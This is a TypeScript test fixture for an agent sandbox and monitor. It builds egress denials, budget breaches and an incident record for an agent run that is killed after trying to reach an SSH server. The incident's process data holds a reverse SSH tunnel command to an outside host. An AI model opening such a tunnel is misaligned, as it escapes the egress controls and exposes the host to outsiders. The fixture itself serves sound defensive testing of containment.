import type { AllowedDestination, Incident } from '../api/service.ts';
import type { Breach, Denial, Outcome, Usage } from '../core/outcome.ts';
import { USAGE_NONE } from '../core/outcome.ts';
import type { Spec } from '../profile/spec.ts';
import type { RunEnd, RunState } from '../run/state.ts';
import { initialState } from '../run/state.ts';
import { buildIncident } from './incident.ts';
import type { IncidentFacts } from './incident.ts';

/** One run of `rome`, ended for trying to reach an SSH server: what the tests of this folder start from. */
export const AT = '2026-10-05T08:00:00.000Z';

export const TRACE = '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01';

export const allowedSite: AllowedDestination = {
  destination: '192.0.2.40',
  name: 'api.example.test',
  port: 443,
  protocol: 'tcp',
  egressBytes: 2_048,
  lastAt: AT,
};

export const usage: Usage = {
  ...USAGE_NONE,
  wallMs: 5_300,
  cpuMs: 1_250,
  memoryBytesPeak: 24 * 2 ** 20,
  pidsPeak: 4,
  egressBytes: 2_048,
  ingressBytes: 40_960,
  denials: 1,
};

export const sshDenial: Denial = {
  kind: 'packet',
  at: AT,
  destination: '203.0.113.10',
  port: 22,
  protocol: 'tcp',
  rule: 'egress',
  explanation: '203.0.113.10:22/tcp is not in egress.allow',
};

export const nameDenial: Denial = {
  kind: 'name',
  at: AT,
  destination: 'pool.example.test',
  port: null,
  protocol: 'dns',
  rule: 'egress',
  explanation: '"pool.example.test" is not in egress.allow',
};

export const sshBreach: Breach = {
  reason: 'budget.denials',
  rule: 'budget.denials',
  measured: 1,
  limit: 0,
  unit: 'denials',
  action: 'kill',
  denial: sshDenial,
};

export const cpuBreach: Breach = {
  reason: 'budget.cpu',
  rule: 'budget.cpu',
  measured: 3_020,
  limit: 3_000,
  unit: 'ms',
  action: 'stop',
  denial: null,
};

export const spec: Spec = {
  name: 'rome',
  description: '',
  owner: 'research@example.com',
  profileDigest: `sha256:${'1'.repeat(64)}`,
  image: 'ringfence/agent-python:local',
  command: ['python3', '/agent/rome.py'],
  commandFromCaller: false,
  user: { uid: 10_001, gid: 10_001 },
  env: {},
  secrets: [],
  mounts: [],
  limits: {
    cpuMillis: 1_000,
    memoryBytesMax: 2 ** 29,
    onOom: 'agent',
    pidsMax: 128,
    diskBytesMax: 2 ** 26,
    filesMax: 1_024,
    bandwidthBitsPerSecond: null,
    ioBytesPerSecond: null,
    gpu: null,
  },
  budget: {
    wallMs: 60_000,
    cpuMs: 3_000,
    gpuMs: null,
    egressBytes: null,
    ingressBytes: null,
    connections: null,
    denials: { count: 0, windowMs: null },
  },
  egress: { allow: [], ask: [] },
  on: {
    wall: 'kill',
    cpu: 'stop',
    gpu: 'kill',
    egress: 'kill',
    ingress: 'kill',
    connections: 'kill',
    denials: 'kill',
  },
  graceMs: 5_000,
  quarantine: true,
  supervisorLost: { action: 'keep', forMs: 60_000 },
  telemetryLost: { action: 'kill', forMs: 10_000 },
  warnAt: [0.8],
  alerts: ['ops'],
  accept: [],
};

export function endedState(breach: Breach, more: Partial<RunEnd> = {}): RunState {
  const end: RunEnd = {
    reason: breach.reason,
    rule: breach.rule,
    detail: 'what happened',
    breach,
    alsoBreached: [],
    usageAtBreach: usage,
    times: { detectedMs: 5_200, signalledMs: 5_200.4, emptyMs: 5_204.26 },
    at: '2026-10-05T08:00:05.200Z',
    ...more,
  };
  const denials = breach.denial === null ? [] : [breach.denial];
  return {
    ...initialState({ runId: 'r0123456789ab', spec, imageDigest: `sha256:${'2'.repeat(64)}` }),
    startedAt: AT,
    startedAtMs: 1_000,
    usage,
    lastDenials: denials,
    denialsTotal: denials.length,
    empty: true,
    end,
  };
}

export function incidentOf(breach: Breach, more: Partial<IncidentFacts> = {}): Incident {
  return buildIncident({
    id: 'i0123456789ab',
    host: 'host-1',
    version: '0.1.0',
    state: endedState(breach),
    labels: { team: 'red' },
    command: ['python3', '/agent/main.py', '--api-key=hunter2'],
    launchedBy: { uid: 1_000, gid: 1_000, pid: 77 },
    process: {
      pid: 42,
      executable: '/usr/bin/ssh',
      argv: ['ssh', '-N', '-R', '2222:127.0.0.1:22', 'x@203.0.113.10'],
      argvSource: { kind: 'read', at: '2026-10-05T08:00:05.000Z' },
      parents: ['python3', 'init'],
      cpuMs: 12,
    },
    traceparent: TRACE,
    topProcesses: [],
    lastAllowed: [allowedSite],
    curve: [
      { wallMs: 1_000, cpuMs: 200, memoryBytes: 8 * 2 ** 20, pids: 2, egressBytes: 0 },
      { wallMs: 5_300, cpuMs: 1_250, memoryBytes: 16 * 2 ** 20, pids: 4, egressBytes: 2_048 },
    ],
    logLines: [],
    earlierIncidents: 2,
    lastIncident: { id: 'iaaaaaaaaaaaa', at: '2026-10-04T07:00:00.000Z' },
    quarantined: true,
    trust: { fromSeq: 10, toSeq: 17, hash: 'ab'.repeat(32), checkpoint: { seq: 12, note: 'ringfence ledger\n12\n' } },
    ...more,
  });
}

export function outcomeWith(more: Partial<Outcome>): Outcome {
  return {
    runId: 'r0123456789ab',
    profile: 'rome',
    profileDigest: spec.profileDigest,
    imageDigest: null,
    reason: 'exited',
    rule: null,
    detail: 'the agent exited',
    exitCode: 0,
    signal: null,
    startedAt: AT,
    endedAt: AT,
    usage: { ...usage, denials: 0 },
    limits: [],
    rungs: {},
    detectedAt: null,
    killedAt: null,
    latencyMs: null,
    incidentId: null,
    ...more,
  };
}
